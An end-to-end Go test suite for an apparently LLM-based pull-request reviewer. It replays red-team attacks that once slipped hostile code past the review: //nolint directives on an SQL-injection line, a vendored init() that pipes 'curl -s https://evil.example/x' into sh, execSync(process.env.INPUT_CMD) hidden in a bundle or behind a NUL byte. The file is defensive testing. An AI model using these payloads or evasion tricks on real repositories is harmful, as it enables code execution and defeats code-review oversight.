package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/anchor-review/anchor-review/pkg/github/githubtest"
	"github.com/anchor-review/anchor-review/pkg/llm"
	"github.com/anchor-review/anchor-review/pkg/llm/llmtest"
)

// A gate the PR's author cannot open (issue 24): each test is one attack
// of a red-team pass against release 2, run against the built binary as
// Actions runs it. Each ended in a green check on code no persona saw, or
// after a P0 that never reached the validator; each must now end with the
// finding validated and posted, the code reviewed, or a check that is not
// green.

// world is one attack's PR: its diff, its files at the head and at the
// base (the base files are also the base's tree).
type world struct {
	diff        string
	head, base  map[string]string
	title, body string
}

// attackPR serves w as PR 7 and points the event at it.
func (s *stage) attackPR(w world) githubtest.PR {
	s.t.Helper()
	p := githubtest.PR{Number: 7, Title: w.title, Author: "octodev", HeadSHA: newSHA(), BaseSHA: strings.Repeat("b", 40),
		HeadRepo: repoFull, BaseRepo: repoFull}
	if p.Title == "" {
		p.Title = "Small fix"
	}
	p.Body = w.body
	s.gh.AddPR(p)
	s.gh.SetDiff(p.Number, w.diff)
	for path, text := range w.head {
		s.gh.SetContent(p.HeadSHA, path, text)
	}
	for path, text := range w.base {
		s.gh.SetContent(p.BaseSHA, path, text)
	}
	s.event("pull_request", "pull_request.opened", p)
	return p
}

// reportFinding is a finding of the given persona's answer.
func reportFinding(file string, line int, severity, title, why string, evidence ...string) map[string]any {
	return map[string]any{
		"title": title, "severity": severity, "file": file, "line": line, "why_it_matters": why,
		"autofix_class": "manual", "owner": "human", "requires_verification": true, "confidence": 100,
		"evidence": evidence, "pre_existing": false, "suggested_fix": "Do not build the command from input.",
	}
}

// answerAs makes persona (and nobody else) report fs, and the validator
// confirm everything.
func (s *stage) answerAs(persona string, fs ...map[string]any) {
	s.model.SetDefault(func(r llmtest.Request) llmtest.Reply {
		if r.Persona == llm.Validator {
			return llmtest.Verdicts(r, func(string) string {
				return `{"validated":true,"reason":"The quoted line runs input as a command or query."}`
			})
		}
		if r.Persona == persona {
			return llmtest.OK(answer(r.Persona, fs...))
		}
		return llmtest.OK(answer(r.Persona))
	})
}

// posted checks that the run validated and posted the finding titled
// title, and that the check on the head fails.
func posted(t *testing.T, s *stage, pr githubtest.PR, r result, title string) {
	t.Helper()
	if n := len(s.model.RequestsFor(llm.Validator)); n == 0 {
		t.Errorf("validator calls: 0; want the finding validated%s", r.logs())
	}
	wantOutputs(t, r, map[string]string{"findings": "1", "conclusion": "failure"})
	if got := checkConclusions(s, pr.HeadSHA); len(got) != 1 || got[0] != "failure" {
		t.Errorf("check runs on the head: %q; want one failure", got)
	}
	cs := reportComments(s.gh, pr.Number)
	if len(cs) != 1 || !strings.Contains(cs[0].Body, title) {
		t.Errorf("report comments %d; want one posting %q", len(cs), title)
	}
}

// seenBy reports whether some persona request carried text.
func seenBy(s *stage, text string) bool {
	for _, r := range s.model.Requests() {
		if r.Persona != llm.Validator && strings.Contains(string(r.Body), text) {
			return true
		}
	}
	return false
}

// goModified is a diff modifying path: the context lines, then one line
// replaced by added.
func goModified(path string, context []string, removed, added string) string {
	n := len(context)
	var b strings.Builder
	fmt.Fprintf(&b, "diff --git a/%s b/%s\nindex 1111111..2222222 100644\n--- a/%s\n+++ b/%s\n@@ -1,%d +1,%d @@\n", path, path, path, path, n+1, n+1)
	for _, c := range context {
		b.WriteString(" " + c + "\n")
	}
	fmt.Fprintf(&b, "-%s\n+%s\n", removed, added)
	return b.String()
}

// newFile is a diff adding path with lines.
func newFile(path string, lines ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "diff --git a/%s b/%s\nnew file mode 100644\nindex 0000000..3333333\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1,%d @@\n", path, path, path, len(lines))
	for _, l := range lines {
		b.WriteString("+" + l + "\n")
	}
	return b.String()
}

// sqlPR is a Go file whose query line the PR rewrites to concatenate
// input, with directive appended.
func sqlPR(directive string) (world, string) {
	const path = "internal/store/users.go"
	context := []string{
		"package store",
		"",
		`import "database/sql"`,
		"",
		"// FindUser returns the user called name.",
		"func FindUser(db *sql.DB, name string) (*sql.Rows, error) {",
	}
	before := "\treturn db.Query(\"SELECT id FROM users WHERE name = $1\", name)"
	line := "\treturn db.Query(\"SELECT id FROM users WHERE name = '\" + name + \"'\") " + directive
	head := strings.Join(append(append(context[:len(context):len(context)], line), "}"), "\n") + "\n"
	base := strings.Join(append(append(context[:len(context):len(context)], before), "}"), "\n") + "\n"
	return world{
		diff: goModified(path, context, before, line),
		head: map[string]string{path: head},
		base: map[string]string{path: base, "go.mod": "module example.com/app\n"},
	}, line
}

// Attacks 1 to 3: a directive the PR appends to an SQL-injection line.
// Release 2 dropped the P0 before the validator: attack 1 because the
// rule was looked for in the evidence (which quotes the line, directive
// and all), attack 2 because "sql" is a substring of the title, attack 3
// because an alias table mapped errcheck to "error".
func TestAttackLintDirectives(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, directive, persona, title, why string
	}{
		{"1 rule that exists nowhere", "//nolint:zq9", "security",
			"SQL injection through the name parameter",
			"Anyone who controls name can read or rewrite the users table."},
		{"2 rule that is a substring of the title", "//nolint:sql", "correctness",
			"SQL injection: name is concatenated into the query",
			"A name with a quote in it breaks out of the string literal."},
		{"3 rule an alias table mapped to error", "//nolint:errcheck", "security",
			"SQL injection; the error hides nothing but the query is built from input",
			"The error path is fine, but a crafted name dumps every row."},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := newStage(t)
			w, line := sqlPR(tc.directive)
			pr := s.attackPR(w)
			s.answerAs(tc.persona, reportFinding("internal/store/users.go", 7, "P0", tc.title, tc.why,
				"internal/store/users.go:7: "+strings.TrimSpace(line)))

			r := s.run(nil)

			if r.exit != 1 {
				t.Errorf("exit code %d; want 1 (a blocking finding)%s", r.exit, r.logs())
			}
			posted(t, s, pr, r, tc.title)
		})
	}
}

// Attack 4: a new ordinary package named dist below the root. Release 2
// excluded it as generated (a dist segment anywhere in the path).
func TestAttackDistSegment(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	const path = "internal/dist/deploy.go"
	lines := []string{
		"package dist",
		"",
		`import "os/exec"`,
		"",
		"// Deploy runs the deployment command it is given.",
		"func Deploy(cmd string) error {",
		`	return exec.Command("sh", "-c", cmd).Run()`,
		"}",
	}
	pr := s.attackPR(world{
		diff: newFile(path, lines...),
		head: map[string]string{path: strings.Join(lines, "\n") + "\n"},
		base: map[string]string{"go.mod": "module example.com/app\n", "main.go": "package main\n", "internal/dist/README.md": "x\n"},
	})
	title := "Shell command built from the caller's string"
	s.answerAs("correctness", reportFinding(path, 7, "P1", title, "Any caller that passes input runs it through sh -c.",
		`internal/dist/deploy.go:7: return exec.Command("sh", "-c", cmd).Run()`))

	r := s.run(nil)

	if !seenBy(s, `exec.Command(\"sh\", \"-c\", cmd)`) {
		t.Errorf("no persona request holds %s's code%s", path, r.logs())
	}
	posted(t, s, pr, r, title)
}

// bundle is a JavaScript action's dist/index.js at the base: ncc output,
// larger than any hand edit.
func bundle() []string {
	lines := []string{"/******/ (() => { // webpackBootstrap", "/******/ \tvar __webpack_modules__ = ({"}
	for i := range 800 {
		lines = append(lines, fmt.Sprintf("/***/ %d: ((module) => { module.exports = function m%d(x) { return x + %d; }; }),", i, i, i))
	}
	return append(lines, "/******/ });", "const core = require('@actions/core');", "core.info('done');", "/******/ })()")
}

// Attack 5: a hand edit of the bundle the action runs. Release 2
// excluded dist/index.js as generated whatever the change.
func TestAttackBundleHandEdit(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	const path = "dist/index.js"
	base := bundle()
	head := append([]string(nil), base...)
	n := len(head) - 2 // "core.info('done');"
	added := "require('child_process').execSync(process.env.INPUT_CMD);"
	head[n] = added
	context := base[n-3 : n]
	diff := fmt.Sprintf("diff --git a/%s b/%s\nindex 1111111..2222222 100644\n--- a/%s\n+++ b/%s\n@@ -%d,5 +%d,5 @@\n", path, path, path, path, n-2, n-2) +
		" " + strings.Join(context, "\n ") + "\n-" + base[n] + "\n+" + added + "\n " + base[n+1] + "\n"
	pr := s.attackPR(world{
		diff: diff,
		head: map[string]string{path: strings.Join(head, "\n") + "\n"},
		base: map[string]string{path: strings.Join(base, "\n") + "\n", "action.yml": "runs:\n  using: node20\n  main: dist/index.js\n",
			"package.json": `{"name":"act"}` + "\n", "src/main.ts": "import * as core from '@actions/core'\n"},
	})
	title := "The bundle runs the INPUT_CMD environment variable as a shell command"
	s.answerAs("correctness", reportFinding(path, n+1, "P0", title, "Whoever sets the cmd input runs any command on the runner.",
		fmt.Sprintf("dist/index.js:%d: %s", n+1, added)))

	r := s.run(nil)

	if !seenBy(s, "execSync(process.env.INPUT_CMD)") {
		t.Errorf("no persona request holds the edit of %s%s", path, r.logs())
	}
	posted(t, s, pr, r, title)
}

// Attack 6: vendor/ where the base has none. Release 2 excluded it as
// vendored (the guard covered only generated markers).
func TestAttackVendorWithoutBase(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	const path = "vendor/github.com/acme/evil/evil.go"
	lines := []string{
		"package evil",
		"",
		`import "os/exec"`,
		"",
		"func init() { exec.Command(\"sh\", \"-c\", \"curl -s https://evil.example/x | sh\").Run() }",
	}
	pr := s.attackPR(world{
		diff: newFile(path, lines...),
		head: map[string]string{path: strings.Join(lines, "\n") + "\n"},
		base: map[string]string{"go.mod": "module example.com/app\n", "main.go": "package main\n"},
	})
	title := "Package init downloads and runs a remote script"
	s.answerAs("correctness", reportFinding(path, 5, "P0", title, "Every binary that imports the package runs code from evil.example.",
		"vendor/github.com/acme/evil/evil.go:5: func init() { exec.Command(\"sh\", \"-c\", \"curl -s https://evil.example/x | sh\").Run() }"))

	r := s.run(nil)

	if !seenBy(s, "evil.example") {
		t.Errorf("no persona request holds %s%s", path, r.logs())
	}
	posted(t, s, pr, r, title)
}

// Attack 7: a .js with one NUL byte in a comment. GitHub calls it binary
// and gives no patch; node runs it. Release 2 excluded it as binary.
func TestAttackNULByteSource(t *testing.T) {
	t.Parallel()
	const path = "lib/run.js"
	base := "const core = require('@actions/core');\n// run the step\ncore.info('ok');\n"
	head := "const core = require('@actions/core');\n// run the step\x00\nrequire('child_process').execSync(process.env.INPUT_CMD);\ncore.info('ok');\n"
	diff := "diff --git a/lib/run.js b/lib/run.js\nindex 1111111..2222222 100644\nBinary files a/lib/run.js and b/lib/run.js differ\n"
	title := "Runs the INPUT_CMD environment variable as a shell command"
	t.Run("read and reviewed as text", func(t *testing.T) {
		t.Parallel()
		s := newStage(t)
		pr := s.attackPR(world{diff: diff, head: map[string]string{path: head}, base: map[string]string{path: base, "package.json": "{}\n"}})
		s.answerAs("correctness", reportFinding(path, 3, "P0", title, "Whoever sets the cmd input runs any command.",
			"lib/run.js:3: require('child_process').execSync(process.env.INPUT_CMD);"))

		r := s.run(nil)

		if !seenBy(s, "execSync(process.env.INPUT_CMD)") {
			t.Errorf("no persona request holds %s's new line%s", path, r.logs())
		}
		if !seenBy(s, `U+0000`) {
			t.Errorf("the NUL byte is not shown to the personas as <U+0000>")
		}
		posted(t, s, pr, r, title)
	})
	t.Run("unreadable: not green", func(t *testing.T) {
		t.Parallel()
		s := newStage(t)
		// The head version cannot be read: the review is incomplete.
		pr := s.attackPR(world{diff: diff, base: map[string]string{path: base}})
		s.answers(nil)

		r := s.run(nil)

		wantOutputs(t, r, map[string]string{"verdict": "degraded", "conclusion": "failure"})
		if got := checkConclusions(s, pr.HeadSHA); len(got) != 1 || got[0] != "failure" {
			t.Errorf("check runs on the head: %q; want one failure%s", got, r.logs())
		}
	})
}

// Attack 8: a moved submodule pointer cannot be reviewed from this
// repository. The check's summary names it; it does not change the
// conclusion, like a dependency bump.
func TestAttackSubmodulePointer(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	diff := "diff --git a/libs/sub b/libs/sub\nindex 1234567..89abcde 160000\n--- a/libs/sub\n+++ b/libs/sub\n@@ -1 +1 @@\n" +
		"-Subproject commit 1234567890abcdef1234567890abcdef12345678\n+Subproject commit 89abcdef1234567890abcdef1234567890abcdef\n" +
		sumDiff
	pr := s.attackPR(world{diff: diff, head: map[string]string{sumPath: sumHead}, base: map[string]string{"go.mod": "module x\n"}})
	s.answers(nil)

	r := s.run(nil)

	wantOutputs(t, r, map[string]string{"conclusion": "success"})
	var summary string
	for _, c := range s.gh.CheckRuns() {
		if c.HeadSHA == pr.HeadSHA {
			summary = c.Summary
		}
	}
	for _, want := range []string{"Submodule pointers moved", "libs/sub: `1234567` → `89abcde`"} {
		if !strings.Contains(summary, want) {
			t.Errorf("check summary lacks %q:\n%s", want, summary)
		}
	}
}
